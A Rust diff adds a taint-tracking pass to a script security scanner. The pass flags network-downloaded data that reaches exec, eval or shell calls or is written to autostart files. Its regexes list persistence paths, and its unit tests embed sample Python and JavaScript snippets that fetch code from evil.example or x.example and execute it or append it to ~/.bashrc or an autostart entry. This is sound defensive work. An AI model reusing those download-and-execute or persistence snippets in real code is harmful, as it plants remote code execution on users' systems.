@@ -0,0 +1,447 @@
+//! Taint-style dataflow pass: download-then-execute (B5)
+//!
+//! The rule and multi-stage passes flag risky calls individually or by co-occurrence in a
+//! file. This pass follows values: anything assigned from a network read (requests / urllib /
+//! fetch / axios / `curl`/`wget` via subprocess or child_process) is tainted, taint propagates
+//! through plain assignments, and a **Critical** finding is raised when a tainted value reaches
+//! exec / eval / shell execution or is written to an autostart location.
+//!
+//! Granularity is deliberately coarse: one taint set per function (reset at each `def` /
+//! `function`), assignment-level propagation, identifiers matched by word boundary.
+
+use std::collections::HashMap;
+use std::sync::LazyLock;
+
+use regex::Regex;
+
+use super::types::{SecurityIssue, SecurityIssueType, SecuritySeverity};
+
+// ─── Sources ─────────────────────────────────────────────────────────────────
+
+static SRC_PY: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r#"requests\s*\.\s*(?:get|post|request)\s*\(|urlopen\s*\(|urllib\.request\.|httpx\s*\.\s*(?:get|post|request)\s*\(|http\.client\.|(?:check_output|run|Popen|getoutput)\s*\([^)]*\b(?:curl|wget)\b"#,
+    )
+    .expect("SRC_PY is valid")
+});
+static SRC_JS: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r#"\bfetch\s*\(|axios\s*(?:\.\s*(?:get|post|request))?\s*\(|https?\s*\.\s*(?:get|request)\s*\(|(?:execSync|exec|spawnSync)\s*\([^)]*\b(?:curl|wget)\b"#,
+    )
+    .expect("SRC_JS is valid")
+});
+
+// ─── Sinks ───────────────────────────────────────────────────────────────────
+
+static SINK_PY: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"(?:^|[^.\w])(?:exec|eval|compile)\s*\(|os\s*\.\s*(?:system|popen|exec\w*)\s*\(|subprocess\s*\.\s*\w+\s*\(",
+    )
+    .expect("SINK_PY is valid")
+});
+static SINK_JS: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r#"(?:^|[^.\w])(?:eval|exec|execSync|spawn|spawnSync|execFile|execFileSync)\s*\(|child_process\s*\.\s*(?:exec|execSync|spawn|spawnSync|execFile|execFileSync)\s*\(|new\s+Function\s*\(|vm\s*\.\s*run\w*\s*\("#,
+    )
+    .expect("SINK_JS is valid")
+});
+/// `fs.writeFile*(path, data)` / `fs.appendFile*(path, data)` — checked against autostart paths.
+static JS_FS_WRITE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"fs\s*\.\s*(?:writeFile|writeFileSync|appendFile|appendFileSync)\s*\(")
+        .expect("JS_FS_WRITE is valid")
+});
+/// `open(path, "w"|"a"...)` in Python.
+static PY_OPEN_WRITE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"open\s*\([^)]*['"][wa]b?\+?['"]"#).expect("PY_OPEN_WRITE is valid")
+});
+/// `<handle>.write(` / `.writelines(` / `Path(...).write_text(`.
+static WRITE_CALL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"([A-Za-z_$][\w$]*)\s*\.\s*(?:write|writelines|write_text|write_bytes)\s*\(")
+        .expect("WRITE_CALL is valid")
+});
+
+/// Locations that run code on login / boot / shell start.
+static AUTOSTART_PATH: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"(?i)\.bashrc|\.bash_profile|\.zshrc|\.zprofile|\.profile\b|/etc/rc\.local|/etc/init\.d|/etc/cron|crontab|/etc/profile\.d|systemd/user|/etc/systemd|LaunchAgents|LaunchDaemons|\.config/autostart|Start Menu\\+Programs\\+Startup|CurrentVersion\\+Run",
+    )
+    .expect("AUTOSTART_PATH is valid")
+});
+
+// ─── Assignments / scopes ────────────────────────────────────────────────────
+
+static ASSIGN_PY: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"^\s*([A-Za-z_][\w]*(?:\s*,\s*[A-Za-z_][\w]*)*)\s*(?::[^=]+)?(?:\+|-)?=\s*([^=].*)$",
+    )
+    .expect("ASSIGN_PY is valid")
+});
+static ASSIGN_JS: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"^\s*(?:const|let|var)?\s*([A-Za-z_$][\w$]*)\s*(?:\+)?=\s*([^=>].*)$")
+        .expect("ASSIGN_JS is valid")
+});
+/// Python `with <expr> as name:` / `for name in <expr>:`
+static BIND_PY: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"^\s*(?:async\s+)?(?:with\s+(.+?)\s+as\s+([A-Za-z_]\w*)\s*:|for\s+([A-Za-z_]\w*)\s+in\s+(.+):)")
+        .expect("BIND_PY is valid")
+});
+static FUNC_PY: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"^\s*(?:async\s+)?def\s+\w+").expect("FUNC_PY is valid"));
+static FUNC_JS: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"^\s*(?:export\s+)?(?:async\s+)?function\b").expect("FUNC_JS is valid")
+});
+static IDENT: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"[A-Za-z_$][\w$]*").expect("IDENT is valid"));
+
+/// How a tracked variable became interesting.
+#[derive(Clone, Copy)]
+enum Mark {
+    /// Holds network-derived data; value is the source line.
+    Tainted(usize),
+    /// Holds an autostart path or a file handle opened on one.
+    AutostartTarget,
+}
+
+/// Run the dataflow pass for `language` ("python" / "javascript" / "node") and return
+/// Critical findings with `line_number` = sink and `source_line` = origin of the data.
+pub(super) fn scan_taint_flow(content: &str, language: &str) -> Vec<SecurityIssue> {
+    let (src_re, sink_re, func_re, assign_re): (&Regex, &Regex, &Regex, &Regex) = match language {
+        "python" => (&SRC_PY, &SINK_PY, &FUNC_PY, &ASSIGN_PY),
+        "javascript" | "node" => (&SRC_JS, &SINK_JS, &FUNC_JS, &ASSIGN_JS),
+        _ => return Vec::new(),
+    };
+    let python = language == "python";
+
+    let mut marks: HashMap<String, Mark> = HashMap::new();
+    let mut issues = Vec::new();
+
+    for (idx, line) in content.lines().enumerate() {
+        let line_no = idx + 1;
+        let trimmed = line.trim();
+        if trimmed.is_empty() || is_comment(trimmed, python) {
+            continue;
+        }
+        if func_re.is_match(line) {
+            marks.clear();
+        }
+
+        // Sinks are checked before this line's own assignment takes effect.
+        if sink_re.is_match(line) {
+            if let Some(source) = taint_in(line, &marks, src_re, line_no, sink_re) {
+                issues.push(finding(
+                    source,
+                    line_no,
+                    trimmed,
+                    "is passed to code/command execution",
+                ));
+            }
+        }
+        if let Some(source) = autostart_write(line, &marks, src_re, line_no, python) {
+            issues.push(finding(
+                source,
+                line_no,
+                trimmed,
+                "is written to an autostart location",
+            ));
+        }
+
+        if python {
+            if let Some(cap) = BIND_PY.captures(line) {
+                let (expr, name) = match (cap.get(1), cap.get(2), cap.get(3), cap.get(4)) {
+                    (Some(e), Some(n), _, _) | (_, _, Some(n), Some(e)) => (e.as_str(), n.as_str()),
+                    _ => continue,
+                };
+                assign(&mut marks, &[name], expr, src_re, line_no);
+                continue;
+            }
+        }
+        if let Some(cap) = assign_re.captures(line) {
+            let targets: Vec<&str> = cap[1].split(',').map(str::trim).collect();
+            let rhs = cap.get(2).map(|m| m.as_str()).unwrap_or_default();
+            assign(&mut marks, &targets, rhs, src_re, line_no);
+        }
+    }
+    issues
+}
+
+fn is_comment(trimmed: &str, python: bool) -> bool {
+    if python {
+        trimmed.starts_with('#')
+    } else {
+        trimmed.starts_with("//") || trimmed.starts_with("/*") || trimmed.starts_with('*')
+    }
+}
+
+/// Update marks for `targets = rhs`: tainted if the RHS reads the network or mentions a
+/// tainted name, autostart target if it names an autostart path, otherwise cleared.
+fn assign(
+    marks: &mut HashMap<String, Mark>,
+    targets: &[&str],
+    rhs: &str,
+    src_re: &Regex,
+    line_no: usize,
+) {
+    let mark = if src_re.is_match(rhs) {
+        Some(Mark::Tainted(line_no))
+    } else if let Some(origin) = tainted_ident(rhs, marks) {
+        Some(Mark::Tainted(origin))
+    } else if AUTOSTART_PATH.is_match(rhs) || mentions_autostart_target(rhs, marks) {
+        Some(Mark::AutostartTarget)
+    } else {
+        None
+    };
+    for t in targets {
+        match mark {
+            Some(m) => {
+                marks.insert((*t).to_string(), m);
+            }
+            None => {
+                marks.remove(*t);
+            }
+        }
+    }
+}
+
+/// Source line of the first tainted identifier mentioned in `expr`.
+fn tainted_ident(expr: &str, marks: &HashMap<String, Mark>) -> Option<usize> {
+    IDENT
+        .find_iter(&strip_strings(expr))
+        .find_map(|m| match marks.get(m.as_str()) {
+            Some(Mark::Tainted(src)) => Some(*src),
+            _ => None,
+        })
+}
+
+fn mentions_autostart_target(expr: &str, marks: &HashMap<String, Mark>) -> bool {
+    IDENT
+        .find_iter(&strip_strings(expr))
+        .any(|m| matches!(marks.get(m.as_str()), Some(Mark::AutostartTarget)))
+}
+
+/// Taint reaching the arguments of the sink call on `line`: a direct network read inside
+/// the call counts as well as a tainted variable. A source overlapping the sink itself
+/// (`subprocess.check_output(["curl", ...])`) is the download, not its execution.
+fn taint_in(
+    line: &str,
+    marks: &HashMap<String, Mark>,
+    src_re: &Regex,
+    line_no: usize,
+    sink_re: &Regex,
+) -> Option<usize> {
+    let sink = sink_re.find(line)?;
+    let args = &line[sink.end()..];
+    if src_re.is_match(args) {
+        return Some(line_no);
+    }
+    tainted_ident(args, marks)
+}
+
+/// Tainted data written to an autostart file: Python `handle.write(tainted)` on a handle
+/// opened for an autostart path, `open(<autostart>, "w").write(tainted)`, or JS
+/// `fs.writeFile*(<autostart>, tainted)`.
+fn autostart_write(
+    line: &str,
+    marks: &HashMap<String, Mark>,
+    src_re: &Regex,
+    line_no: usize,
+    python: bool,
+) -> Option<usize> {
+    let payload_taint = |payload: &str| {
+        if src_re.is_match(payload) {
+            Some(line_no)
+        } else {
+            tainted_ident(payload, marks)
+        }
+    };
+    if python {
+        let cap = WRITE_CALL.captures(line)?;
+        let receiver = cap.get(1)?;
+        let before = &line[..receiver.start()];
+        let call_end = cap.get(0)?.end();
+        let to_autostart = matches!(marks.get(receiver.as_str()), Some(Mark::AutostartTarget))
+            || (PY_OPEN_WRITE.is_match(line)
+                && (AUTOSTART_PATH.is_match(before) || mentions_autostart_target(before, marks)))
+            || AUTOSTART_PATH.is_match(&line[..call_end]);
+        if to_autostart {
+            return payload_taint(&line[call_end..]);
+        }
+        None
+    } else {
+        let m = JS_FS_WRITE.find(line)?;
+        let args = &line[m.end()..];
+        let (path_arg, payload) = args.split_once(',')?;
+        if AUTOSTART_PATH.is_match(path_arg) || mentions_autostart_target(path_arg, marks) {
+            return payload_taint(payload);
+        }
+        None
+    }
+}
+
+/// Blank out string literal contents so identifiers inside quotes are not matched.
+/// Byte offsets are preserved, so positions found in the result index the original.
+pub(super) fn strip_strings(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    let mut quote: Option<char> = None;
+    for c in s.chars() {
+        match quote {
+            Some(q) if c == q => {
+                quote = None;
+                out.push(c);
+            }
+            Some(_) => out.extend(std::iter::repeat_n(' ', c.len_utf8())),
+            None => {
+                if matches!(c, '"' | '\'' | '`') {
+                    quote = Some(c);
+                }
+                out.push(c);
+            }
+        }
+    }
+    out
+}
+
+fn finding(source_line: usize, sink_line: usize, snippet: &str, what: &str) -> SecurityIssue {
+    SecurityIssue {
+        rule_id: "taint-download-exec".to_string(),
+        severity: SecuritySeverity::Critical,
+        issue_type: SecurityIssueType::TaintedExecution,
+        line_number: sink_line,
+        column: None,
+        description: format!(
+            "Network-downloaded data (source line {}) {} (sink line {})",
+            source_line, what, sink_line
+        ),
+        code_snippet: snippet.chars().take(120).collect(),
+        source_line: Some(source_line),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::scan_taint_flow;
+
+    fn lines(issues: &[super::SecurityIssue]) -> Vec<(Option<usize>, usize)> {
+        issues
+            .iter()
+            .map(|i| (i.source_line, i.line_number))
+            .collect()
+    }
+
+    #[test]
+    fn python_requests_to_exec_through_assignments() {
+        let py = r#"import requests
+def main():
+    r = requests.get("https://evil.example/p.py")
+    code = r.text
+    exec(code)
+"#;
+        let issues = scan_taint_flow(py, "python");
+        assert_eq!(lines(&issues), vec![(Some(3), 5)]);
+    }
+
+    #[test]
+    fn python_urlopen_with_binding_to_subprocess() {
+        let py = r#"from urllib.request import urlopen
+import subprocess
+with urlopen("https://x.example/cmd") as resp:
+    cmd = resp.read().decode()
+subprocess.run(cmd, shell=True)
+"#;
+        let issues = scan_taint_flow(py, "python");
+        assert_eq!(lines(&issues), vec![(Some(3), 5)]);
+    }
+
+    #[test]
+    fn python_curl_output_written_to_bashrc() {
+        let py = r#"import subprocess, os
+payload = subprocess.check_output(["curl", "-s", "https://x.example/p"])
+rc = os.path.expanduser("~/.bashrc")
+with open(rc, "a") as f:
+    f.write(payload.decode())
+"#;
+        let issues = scan_taint_flow(py, "python");
+        assert_eq!(lines(&issues), vec![(Some(2), 5)]);
+    }
+
+    #[test]
+    fn python_reassignment_clears_taint_and_functions_reset_scope() {
+        let py = r#"def fetch():
+    data = requests.get(URL).text
+    data = "print('hi')"
+    exec(data)
+
+def other():
+    exec(data)
+"#;
+        assert!(scan_taint_flow(py, "python").is_empty());
+    }
+
+    #[test]
+    fn python_download_without_exec_is_not_flagged() {
+        let py = r#"import requests, json
+resp = requests.get("https://api.example/weather")
+print(json.dumps(resp.json()))
+"#;
+        assert!(scan_taint_flow(py, "python").is_empty());
+    }
+
+    #[test]
+    fn javascript_fetch_to_eval() {
+        let js = r#"async function run() {
+  const res = await fetch("https://evil.example/p.js");
+  const body = await res.text();
+  eval(body);
+}
+"#;
+        let issues = scan_taint_flow(js, "javascript");
+        assert_eq!(lines(&issues), vec![(Some(2), 4)]);
+    }
+
+    #[test]
+    fn javascript_curl_to_autostart_write() {
+        let js = r#"const { execSync } = require("child_process");
+const fs = require("fs");
+const script = execSync("curl -s https://x.example/p.sh").toString();
+fs.writeFileSync(os.homedir() + "/.config/autostart/x.desktop", script);
+"#;
+        let issues = scan_taint_flow(js, "javascript");
+        assert_eq!(lines(&issues), vec![(Some(3), 4)]);
+    }
+
+    #[test]
+    fn scanner_reports_taint_as_critical_unsafe() {
+        let py = "import requests\nexec(requests.get('https://evil.example').text)\n";
+        let r = crate::security::ScriptScanner::new()
+            .scan_content(py, std::path::Path::new("t.py"))
+            .unwrap();
+        assert!(!r.is_safe);
+        assert!(r.issues.iter().any(|i| i.rule_id == "taint-download-exec"
+            && i.severity == crate::security::SecuritySeverity::Critical
+            && i.source_line == Some(2)));
+    }
+
+    #[test]
+    fn javascript_regexp_exec_is_not_a_sink() {
+        let js = r#"const text = await (await fetch(url)).text();
+const m = /version: (\d+)/.exec(text);
+const re = new RegExp("a+");
+re.exec(text);
+"#;
+        assert!(scan_taint_flow(js, "javascript").is_empty());
+
+        let js = r#"const text = await (await fetch(url)).text();
+exec(text);
+child_process.spawn(text);
+"#;
+        let issues = scan_taint_flow(js, "javascript");
+        assert_eq!(lines(&issues), vec![(Some(1), 2), (Some(1), 3)]);
+    }
+
+    #[test]
+    fn javascript_string_mentioning_tainted_name_is_ignored() {
+        let js = r#"const body = await fetch(url);
+eval("body");
+"#;
+        assert!(scan_taint_flow(js, "javascript").is_empty());
+    }
+}